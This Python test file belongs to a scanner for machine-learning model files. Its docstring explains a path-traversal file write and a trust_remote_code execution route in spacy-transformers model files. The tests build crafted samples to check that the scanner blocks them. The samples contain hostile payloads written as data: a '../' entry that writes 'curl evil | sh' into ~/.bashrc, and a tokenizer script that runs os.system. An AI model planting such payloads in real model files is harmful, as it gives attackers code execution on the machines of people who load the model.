"""spacy-transformers 1.4 keeps a pipeline's transformer in ``transformer/model``: one msgpack map with the
HF config, the torch-saved state_dict (``state``) and the tokenizer (``tokenizer``: file name -> bytes, plus
``kwargs``). ``spacy.load`` -> HFShim.from_bytes writes every tokenizer entry to ``temp_dir / name`` (a name with
``../`` wrote outside the temporary folder: arbitrary file write) and calls
``AutoTokenizer.from_pretrained(temp_dir, **kwargs)`` (``trust_remote_code`` there plus a ``tokenizer_config.json``
auto_map and a ``.py`` entry ran that code: marker file, transformers 4.53). Confirmed by calling the real
HFShim.from_bytes on these shapes in a throwaway venv. Today the map is not judged by what it holds: the scan
blocks the malicious file only because it reads the msgpack as malformed, and blocks the benign one the same way
(a false alarm). The msgpack handler now judges the map by what it holds (scanner/formats/msgpack_shims.py).
"""

from __future__ import annotations

import json
from pathlib import Path

import msgpack
import pytest

from tests.harness import path_verdict

STATE = (Path(__file__).resolve().parents[1] / "formats" / "samples" / "state_dict.pt").read_bytes()
BERT = {"model_type": "bert", "vocab_size": 16, "hidden_size": 8, "num_hidden_layers": 1}
# a BERT-sized vocab.txt (30522 entries): a tiny tokenizer after ``state`` puts the torch zip's end record in the
# last 64 KiB, where the zip sniffer finds it (tests/formats/data/test_msgpack_spacy_zip_xfail.py)
VOCAB = "\n".join(["[PAD]", "[UNK]", "[CLS]", "[SEP]", "[MASK]"] + [f"w{i}" for i in range(30517)]).encode()


def _model(tokenizer: dict) -> bytes:
    msg = {
        "config": BERT,
        "state": STATE,
        "tokenizer": tokenizer,
        "_init_tokenizer_config": {},
        "_init_transformer_config": {},
    }
    return msgpack.packb(msg, use_bin_type=True)


def test_spacy_transformers_model_as_saved_allowed(tmp_path: Path) -> None:
    p = tmp_path / "transformer" / "model"
    p.parent.mkdir()
    p.write_bytes(_model({"kwargs": {}, "vocab.txt": VOCAB}))
    decision, found = path_verdict(p)
    assert decision == "allow", sorted(found)


@pytest.mark.parametrize(
    "tokenizer",
    [
        {"kwargs": {}, "vocab.txt": VOCAB, "../../../home/user/.bashrc": b"curl evil | sh\n"},
        {
            "kwargs": {"trust_remote_code": True},
            "vocab.txt": VOCAB,
            "tokenizer_config.json": json.dumps({"auto_map": {"AutoTokenizer": ["tok.T", None]}}).encode(),
            "tok.py": b"import os\nos.system('id')\n",
        },
    ],
)
def test_spacy_transformers_tokenizer_entries_judged(tmp_path: Path, tokenizer: dict) -> None:
    p = tmp_path / "transformer" / "model"
    p.parent.mkdir()
    p.write_bytes(_model(tokenizer))
    decision, found = path_verdict(p)
    assert decision == "block"
    assert not set(found) & {"MSGPACK-INVALID", "FORMAT-UNKNOWN"}, sorted(found)  # judged by what it holds
